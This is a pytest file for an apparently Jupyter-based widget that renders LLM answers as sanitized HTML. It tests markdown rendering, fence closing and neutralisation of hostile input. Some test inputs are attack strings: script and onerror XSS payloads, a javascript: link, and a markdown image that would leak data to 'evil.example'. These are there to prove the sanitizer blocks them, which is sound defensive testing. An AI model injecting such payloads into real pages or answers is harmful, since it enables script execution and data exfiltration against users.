"""The saved copy: the answer as safe HTML in its own output, beside the live view."""

from __future__ import annotations

from llmwidgets._widgets.saved_copy import (
    EMPTY_SLOT,
    SAVED_STYLE,
    answer_html,
    close_open_fence,
    excerpt,
    saved_bundle,
)


def test_markdown_is_rendered_as_html() -> None:
    page = answer_html("# Title\n\nSome **bold** and `code`.\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert '<h1 class="jp-toc-ignore">Title</h1>' in page
    assert "<strong>bold</strong>" in page and "<code>code</code>" in page
    assert "<table>" in page and "<td>1</td>" in page


def test_raw_html_in_an_answer_is_shown_as_text_not_run() -> None:
    page = answer_html('Hi <script>alert(1)</script> <img src=x onerror="alert(1)">')
    assert "<script" not in page and "<img" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_a_remote_image_becomes_a_link_and_is_never_fetched() -> None:
    page = answer_html("![secret](https://evil.example/leak.png?q=data)")
    assert "<img" not in page
    assert 'href="https://evil.example/leak.png?q=data"' in page
    assert "🖼 secret" in page


def test_an_inline_data_image_still_shows() -> None:
    page = answer_html("![dot](data:image/png;base64,iVBORw0KGgo=)")
    assert '<img src="data:image/png;base64,iVBORw0KGgo="' in page


def test_script_links_are_dropped_and_others_open_in_a_new_tab() -> None:
    assert "javascript:" not in answer_html("[x](javascript:alert(1))").split("[x]")[0]
    assert "<a " not in answer_html("[x](javascript:alert(1))")
    page = answer_html("[docs](https://example.org)")
    assert 'target="_blank"' in page and 'rel="noopener noreferrer nofollow"' in page


def test_the_saved_bundle_is_html_with_its_style_and_a_plain_text_copy() -> None:
    bundle = saved_bundle("An *answer*", "An answer")
    assert set(bundle) == {"text/html", "text/plain"}
    assert bundle["text/html"].startswith(f'<div class="llmw-saved">{SAVED_STYLE}')
    assert "<em>answer</em>" in bundle["text/html"]
    assert bundle["text/plain"] == "An answer"


def test_the_empty_slot_is_a_widget_view_without_a_model() -> None:
    """JupyterLab and Notebook 7 hide a widget view whose model id is empty."""
    assert EMPTY_SLOT["application/vnd.jupyter.widget-view+json"]["model_id"] == ""
    assert EMPTY_SLOT["text/plain"] == ""


def test_a_long_answer_keeps_an_excerpt_as_plain_text() -> None:
    text = "word " * 1000
    short = excerpt(text, limit=100)
    assert short.startswith("word word") and len(short) < 220
    assert "4,900 more characters" in short
    assert excerpt("short") == "short"


def test_the_copys_headings_stay_out_of_jupyterlabs_table_of_contents() -> None:
    page = answer_html("## One\n\ntext\n\n### Two")
    assert page.count('class="jp-toc-ignore"') == 2


def test_an_answer_cut_off_inside_a_code_block_is_closed() -> None:
    assert close_open_fence("Try:\n\n```python\nx = 1") == "Try:\n\n```python\nx = 1\n```"


def test_a_closed_code_block_is_left_alone() -> None:
    answer = "Try:\n\n~~~~\nx = 1\n~~~~\n"
    assert close_open_fence(answer) == answer


def test_a_shorter_fence_inside_a_longer_one_does_not_close_it() -> None:
    assert close_open_fence("````\n```\nx") == "````\n```\nx\n````"


def test_text_after_a_cut_off_answer_is_not_swallowed_into_its_code() -> None:
    page = answer_html(close_open_fence("```\nx = 1") + "\n\n## Summary")
    assert "<h2" in page and "Summary</h2>" in page
